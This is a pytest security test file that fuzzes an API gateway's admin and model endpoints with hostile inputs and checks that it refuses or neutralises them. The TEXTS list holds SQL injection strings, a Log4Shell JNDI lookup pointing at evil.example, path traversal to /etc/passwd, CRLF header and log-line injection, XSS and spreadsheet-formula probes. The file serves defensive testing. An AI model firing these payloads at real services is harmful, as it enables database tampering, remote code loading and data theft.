"""Text that means something elsewhere: to SQL, to the cache, to the log, to headers, to spreadsheets."""

import json
from collections.abc import Iterator
from urllib.parse import quote, urlencode

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.admin.operations import OPERATIONS, Operation
from gateway.cache import keys
from gateway.limits import DIMENSIONS
from tests.security.platform import PLAIN_KEY, Answer, Platform, wait_until

TEXTS = [
    "'; DROP TABLE projects; --",
    "' OR '1'='1",
    '" OR ""="',
    "\\'; SELECT pg_sleep(60); --",
    "%27%20OR%201=1",
    "$1",
    "%s%n",
    "{limits}",
    "}:{",
    "a:b|c",
    "*",
    "",
    " ",
    "\x00",
    "a\x00b",
    "a\r\nx-injected: 1",
    '"}\n{"event": "request", "injected": true}',
    "\x1b[31m\x07",
    "\u202eexe.nimda",
    "\u0430dmin",
    "ａｄｍｉｎ",
    "admin\u200b",
    "\ud800",
    "\ufffe",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "=HYPERLINK(1)",
    "<script>alert(1)</script>",
    "-1",
    "1e999",
    "null",
    "x" * 100_000,
]
QUERIES = [(operation, name) for operation in OPERATIONS for name in operation.query.model_fields]
BODIES = [
    (operation, name)
    for operation in OPERATIONS
    if operation.body is not None
    for name in operation.body.model_fields
]


def path_of(operation: Operation, value: str) -> str:
    before, brace, rest = operation.path.partition("{")
    return before + (value + rest.partition("}")[2] if brace else "")


def check(answer: Answer) -> None:
    assert answer.status < 500, answer.body
    assert "x-injected" not in [name.lower() for name, _ in answer.headers]
    if answer.status >= 400:
        assert set(answer.json) == {"error"}
        # Whoever sends much does not get much back.
        assert len(answer.body) < 5000


@pytest.fixture(autouse=True)
def _one_line_for_each_request(platform: Platform) -> Iterator[None]:
    start, sent = platform.gateway.output.stat().st_size, platform.sent
    yield
    wait_until(lambda: len(_requests(platform, start)) >= platform.sent - sent)
    lines = _requests(platform, start)
    assert len(lines) == platform.sent - sent
    assert all(line["event"] == "request" and "injected" not in line for line in lines)


def _requests(platform: Platform, start: int) -> list[dict[str, object]]:
    """The log's lines of requests from a place on, but for health checks and what happens beside requests."""
    with platform.gateway.output.open("rb") as log:
        log.seek(start)
        lines = [json.loads(line) for line in log]
    return [line for line in lines if "injected" in line or line["event"] == "request"]


@pytest.mark.parametrize(("operation", "name"), QUERIES, ids=lambda value: getattr(value, "path", value))
def test_query_parameters(platform: Platform, operation: Operation, name: str) -> None:
    for text in TEXTS:
        query = urlencode({name: text[:20_000].encode("utf-8", "surrogatepass")})
        check(platform.send(operation.method, f"{path_of(operation, 'x')}?{query}"))


@pytest.mark.parametrize(("operation", "name"), BODIES, ids=lambda value: getattr(value, "path", value))
def test_fields_of_bodies(platform: Platform, operation: Operation, name: str) -> None:
    for text in TEXTS:
        for value in (text, [text], {text: text}):
            path = path_of(operation, "proj_0123456789abcdef")
            check(platform.send(operation.method, path, {name: value}))


@pytest.mark.parametrize(
    "operation",
    [operation for operation in OPERATIONS if "{" in operation.path],
    ids=lambda value: value.path,
)
def test_values_in_paths(platform: Platform, operation: Operation) -> None:
    for text in TEXTS:
        value = quote(text[:20_000].encode("utf-8", "surrogatepass"), safe="")
        body: object = None if operation.method in ("GET", "DELETE") else {}
        check(platform.send(operation.method, path_of(operation, value), body))


@pytest.mark.parametrize("text", TEXTS)
def test_a_name_is_kept_as_it_is_or_refused(platform: Platform, text: str) -> None:
    made = platform.send("POST", "/admin/v1/projects", {"name": text, "description": text})
    check(made)
    if made.status == 201:
        read = platform.send("GET", f"/admin/v1/projects/{made.json['id']}").json
        assert (read["name"], read["description"]) == (text, text)
    else:
        assert made.status in (400, 409)


@pytest.mark.parametrize(
    "header", ["if-match", "if-none-match", "idempotency-key", "accept", "x-forwarded-for"]
)
def test_headers_of_the_admin_api(platform: Platform, header: str) -> None:
    for text in TEXTS:
        value = text[:20_000].encode("utf-8", "surrogatepass")
        if not {0, 10, 13, 7, 27} & set(value):
            headers = {header: value.decode("latin-1")}
            check(platform.send("POST", "/admin/v1/projects", {"name": "\x00"}, headers))
            check(platform.send("GET", "/admin/v1/projects", None, headers))


@pytest.mark.parametrize("text", TEXTS)
def test_names_of_models_and_request_ids(platform: Platform, text: str) -> None:
    body = {"model": text, "messages": [{"role": "user", "content": "x"}], "max_tokens": 1}
    for path in ("/v1/chat/completions", "/v1/messages", "/v1/responses", "/v1/embeddings"):
        answer = platform.send("POST", path, body, key=PLAIN_KEY)
        assert answer.status in (400, 404)
        assert len(answer.body) < 5000
    value = quote(text[:20_000].encode("utf-8", "surrogatepass"), safe="")
    answer = platform.send("GET", f"/v1/models/{value}", key=PLAIN_KEY)
    assert answer.status in (200, 404)
    if not {0, 10, 13, 7, 27} & set(text.encode("utf-8", "surrogatepass")):
        header = text[:20_000].encode("utf-8", "surrogatepass").decode("latin-1")
        answer = platform.send("GET", "/v1/models", None, {"x-request-id": header, "traceparent": header})
        given = dict(answer.headers)["x-request-id"]
        assert given == header or given.startswith("req_")
        assert given.isascii()
        assert " " not in given


MODEL = st.none() | st.from_regex(r"[a-zA-Z0-9][a-zA-Z0-9._:/-]{0,8}", fullmatch=True)
ID = st.text(alphabet="ab:|{}*\x00\n\u0430é/'\"", min_size=1, max_size=8)
WINDOW = st.tuples(st.sampled_from(list(DIMENSIONS)), st.sampled_from(["caller", "project"]), MODEL, ID)


@given(WINDOW, WINDOW)
def test_two_limits_never_share_a_key(
    one: tuple[str, str, str | None, str], other: tuple[str, str, str | None, str]
) -> None:
    assert (keys.limit_window(*one) == keys.limit_window(*other)) == (one == other)
    for key in (keys.limit_window(*one), keys.limit_window(*other)):
        # One slot of a cluster, whatever an ID says.
        assert key[key.index("{") + 1 : key.index("}")] == "limits"
        assert key not in (keys.PROCESSES, keys.COOLDOWNS)
        assert key not in (keys.deployment_requests(one[3]), keys.deployment_tokens(one[3]))
